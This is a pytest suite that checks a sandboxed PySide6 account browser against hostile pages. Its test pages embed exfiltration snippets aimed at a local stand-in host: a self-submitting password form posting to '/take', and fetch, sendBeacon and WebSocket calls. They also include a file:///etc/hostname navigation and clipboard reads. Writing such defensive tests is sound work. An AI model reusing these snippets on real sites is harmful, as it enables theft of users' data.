"""Hostile pages: what they ask for they do not get, before any network, and nothing is kept."""

from __future__ import annotations

import logging
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QApplication, QVBoxLayout, QWidget
from pytestqt.qtbot import QtBot

from app.views.browser_policy import policy
from app.views.browser_session import AccountBrowser

pytestmark = pytest.mark.browser

BACK = "http://127.0.0.1:1/callback"


class Seat:
    """A page on a screen, and everything it said."""

    def __init__(self, browser: AccountBrowser, qtbot: QtBot) -> None:
        self.browser, self.qtbot = browser, qtbot
        self.said: list[tuple[str, ...]] = []
        self.answer: str | None = None
        self.window = QWidget()
        self.window.resize(500, 400)
        box = QVBoxLayout(self.window)
        self.view, self.page = browser.open_view(self._ask, self.window)
        box.addWidget(self.view)
        self.window.show()
        self.page.captured.connect(lambda url: self.said.append(("captured", url.toString())))
        self.page.blocked.connect(lambda url, s: self.said.append(("blocked", url.toString(), s)))
        self.page.bad_certificate.connect(lambda url, k: self.said.append(("certificate", k)))
        self.page.failed.connect(lambda reason, code: self.said.append(("failed", reason)))
        browser.refused.connect(lambda what, host: self.said.append(("refused", what, host)))

    def _ask(self, kind: str, host: str, message: str, default: str) -> str | None:
        self.said.append((kind, host, message))
        return self.answer

    def open(self, address: str) -> None:
        with self.qtbot.waitSignal(self.page.loadFinished, timeout=15000):
            self.page.load(QUrl(address))

    def heard(self, *start: str) -> Callable[[], bool]:
        return lambda: any(said[: len(start)] == start for said in self.said)

    def wait(self, *start: str) -> None:
        self.qtbot.waitUntil(self.heard(*start), timeout=15000)

    def settled(self, door: Any) -> None:
        """The page went on after its trick: its last line asks the door for /alive."""
        self.qtbot.waitUntil(lambda: "/alive" in door.seen, timeout=15000)


ALIVE = "<img src=/alive>"


@pytest.fixture
def seat(qtbot: QtBot, door: Any) -> Iterator[Seat]:
    browser = AccountBrowser("a1", policy((door.address,), BACK, practice=True))
    made = Seat(browser, qtbot)
    yield made
    browser.close()
    made.window.close()


def script(text: str) -> str:
    return f"<script>try {{ {text} }} catch (e) {{}}</script>" + ALIVE


def test_the_return_address_is_caught_before_any_network(
    seat: Seat, door: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    seat.open(door.redirect("/go", BACK + "?code=SECRET-CODE&state=s1"))
    seat.wait("captured")
    assert ("captured", BACK + "?code=SECRET-CODE&state=s1") in seat.said
    assert not seat.heard("failed")()
    assert "SECRET-CODE" not in caplog.text


def test_the_return_address_is_caught_once(seat: Seat, door: Any) -> None:
    seat.open(door.redirect("/go", BACK + "?code=1"))
    seat.wait("captured")
    seat.open(door.redirect("/again", BACK + "?code=2"))
    assert [s for s in seat.said if s[0] == "captured"] == [("captured", BACK + "?code=1")]


def test_an_inner_page_cannot_reach_the_return_address(seat: Seat, door: Any) -> None:
    seat.open(door.page("/", f"<iframe src='{BACK}?code=stolen'></iframe>{ALIVE}"))
    seat.settled(door)
    seat.wait("refused", "part")
    assert not seat.heard("captured")()


@pytest.mark.parametrize("way", ["redirect", "link", "script", "refresh"])
def test_a_foreign_host_is_never_asked(seat: Seat, door: Any, stranger: Any, way: str) -> None:
    target = stranger.page("/evil", "evil")
    address = {
        "redirect": lambda: door.redirect("/r", target),
        "link": lambda: door.page("/l", f"<a id=a href='{target}'>x</a><script>a.click()</script>"),
        "script": lambda: door.page("/s", f"<script>location='{target}'</script>"),
        "refresh": lambda: door.page("/m", f"<meta http-equiv=refresh content='0;url={target}'>"),
    }[way]()
    seat.page.load(QUrl(address))
    seat.wait("blocked", target, "unlisted")
    assert stranger.seen == []


def test_a_form_cannot_carry_what_was_typed_to_a_stranger(
    seat: Seat, door: Any, stranger: Any
) -> None:
    form = (
        f"<form id=f method=post action='{stranger.address}/take'><input name=p value=pass></form>"
    )
    seat.page.load(QUrl(door.page("/f", form + "<script>f.submit()</script>")))
    seat.wait("blocked")
    assert stranger.seen == []
    assert stranger.posted == []


def test_parts_from_a_stranger_are_not_fetched(seat: Seat, door: Any, stranger: Any) -> None:
    s = stranger.address
    body = (
        f"<img src={s}/i.png><script src={s}/s.js></script><link rel=stylesheet href={s}/c.css>"
        f"<iframe src={s}/frame></iframe>"
        f"<script>fetch('{s}/fetch',{{mode:'no-cors'}}).catch(()=>0);"
        f"navigator.sendBeacon('{s}/beacon','x');new WebSocket('{s.replace('http', 'ws')}/ws')</script>"
    )
    seat.open(door.page("/", body + ALIVE))
    seat.settled(door)
    seat.wait("refused", "part", "127.0.0.1")
    assert stranger.seen == []


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/hostname",
        "data:text/html,<script>1</script>",
        "ichido-nobody:open",
        "mailto:a@example.jp",
        "view-source:http://127.0.0.1/",
        "chrome://gpu/",
    ],
)
def test_other_schemes_lead_nowhere(seat: Seat, door: Any, address: str) -> None:
    link = f"<a id=a href='{address}'>x</a>"
    seat.open(door.page("/", link + script("a.click(); location.href=a.href")))
    seat.settled(door)
    assert seat.page.url().toString() == door.address + "/"


def test_pop_ups_do_not_open(seat: Seat, door: Any, stranger: Any) -> None:
    windows = len(QApplication.topLevelWidgets())
    body = f"<a id=a target=_blank href={door.address}/other>x</a>" + script(
        f"window.w = window.open('{stranger.address}/p'); a.click(); document.title = String(w)"
    )
    seat.open(door.page("/", body))
    seat.settled(door)
    seat.qtbot.waitUntil(lambda: seat.page.title() == "null", timeout=15000)
    assert stranger.seen == []
    assert "/other" not in door.seen
    assert len(QApplication.topLevelWidgets()) == windows


def test_downloads_are_cancelled(seat: Seat, door: Any, tmp_path: Any) -> None:
    door.pages["/d"] = (200, {"Content-Disposition": "attachment; filename=x.exe"}, "MZ")
    door.page("/", f"<a id=a download=y href={door.address}/d>x</a>" + script("a.click()"))
    seat.page.load(QUrl(door.address + "/"))
    seat.wait("refused", "download")


NO = "() => document.title = 'no'"
YES = "() => document.title = 'yes'"


@pytest.mark.parametrize(
    "ask",
    [
        f"navigator.geolocation.getCurrentPosition({YES}, {NO})",
        "Notification.requestPermission().then(x => document.title = x === 'denied' ? 'no' : x)",
        f"navigator.mediaDevices.getUserMedia({{audio: true, video: true}}).then({YES}, {NO})",
        f"navigator.mediaDevices.getDisplayMedia().then({YES}, {NO})",
        f"navigator.clipboard.readText().then({YES}, {NO})",
        f"document.documentElement.requestFullscreen().then({YES}, {NO})",
        f"showOpenFilePicker().then({YES}, {NO})",
    ],
)
def test_permissions_are_denied(seat: Seat, door: Any, ask: str) -> None:
    body = f"<script>try {{ {ask} }} catch (e) {{ document.title = 'no' }}</script>"
    seat.open(door.page("/", body))
    seat.qtbot.waitUntil(lambda: seat.page.title() in {"no", "yes"}, timeout=15000)
    assert seat.page.title() == "no"


def test_dialogs_come_to_us_with_the_host(seat: Seat, door: Any) -> None:
    seat.answer = "typed"
    text = "alert('a'); const c = confirm('c'); const p = prompt('p', 'd'); document.title = c + p"
    seat.open(door.page("/", script(text)))
    seat.wait("prompt", "127.0.0.1", "p")
    seat.qtbot.waitUntil(lambda: seat.page.title() == "truetyped", timeout=15000)
    assert ("alert", "127.0.0.1", "a") in seat.said
    assert ("confirm", "127.0.0.1", "c") in seat.said


def test_a_refused_dialog_is_a_no(seat: Seat, door: Any) -> None:
    seat.open(door.page("/", script("document.title = confirm('c') + '' + prompt('p','d')")))
    seat.qtbot.waitUntil(lambda: seat.page.title() == "falsenull", timeout=15000)


def test_nothing_of_ours_is_in_the_page(seat: Seat, door: Any) -> None:
    names = "[typeof qt, typeof QWebChannel, typeof external.qt].join()"
    seat.open(door.page("/", script(f"document.title = {names}")))
    seat.qtbot.waitUntil(lambda: "undefined" in seat.page.title(), timeout=15000)
    assert seat.page.title() == "undefined,undefined,undefined"
    assert seat.page.webChannel() is None
    assert seat.page.scripts().count() == 0


def test_a_redirect_loop_ends_in_a_sentence_not_a_hang(seat: Seat, door: Any) -> None:
    door.redirect("/a", "/b")
    seat.page.load(QUrl(door.redirect("/b", "/a")))
    seat.wait("failed")


def test_a_flood_of_history_entries_leaves_the_program_alive(seat: Seat, door: Any) -> None:
    seat.open(door.page("/", script("for (let i=0;i<3000;i++) history.pushState(0,'','/h'+i)")))
    seat.settled(door)
    assert seat.page.history().count() <= 100
    seat.open(door.page("/next", "ok"))
    assert seat.page.url().path() == "/next"


def test_a_certificate_nobody_trusts_is_refused(qtbot: QtBot, tls_door: Any) -> None:
    tls_door.page("/", "secret page")
    browser = AccountBrowser("a", policy((tls_door.address,), BACK, practice=True))
    seat = Seat(browser, qtbot)
    seat.page.load(QUrl(tls_door.address + "/"))
    seat.wait("certificate")
    assert tls_door.seen == []
    browser.close()


@pytest.mark.parametrize("right", [True, False])
def test_only_the_towns_own_certificate_is_taken_by_its_print(
    qtbot: QtBot, tls_door: Any, own_certificate: tuple[Any, str], right: bool
) -> None:
    tls_door.page("/", "town")
    pin = own_certificate[1] if right else "ab" * 32
    browser = AccountBrowser("a", policy((tls_door.address,), BACK, practice=True, pin=pin))
    seat = Seat(browser, qtbot)
    seat.page.load(QUrl(tls_door.address + "/"))
    if right:
        qtbot.waitUntil(lambda: "/" in tls_door.seen, timeout=15000)
    else:
        seat.wait("certificate")
        assert tls_door.seen == []
    browser.close()


def test_sessions_of_two_accounts_do_not_meet(qtbot: QtBot, door: Any) -> None:
    door.page("/set", "x", Set_Cookie="s=account-one")
    door.page("/show", "<script>document.title='c:'+document.cookie</script>")
    one, two = (
        AccountBrowser(n, policy((door.address,), BACK, practice=True)) for n in ("one", "two")
    )
    first, second = Seat(one, qtbot), Seat(two, qtbot)
    first.open(door.address + "/set")
    first.open(door.address + "/show")
    second.open(door.address + "/show")
    qtbot.waitUntil(lambda: first.page.title() == "c:s=account-one", timeout=15000)
    qtbot.waitUntil(lambda: second.page.title() == "c:", timeout=15000)
    one.close()
    assert not one.is_open
    again = Seat(one, qtbot)
    again.open(door.address + "/show")
    qtbot.waitUntil(lambda: again.page.title() == "c:", timeout=15000)
    one.close()
    two.close()
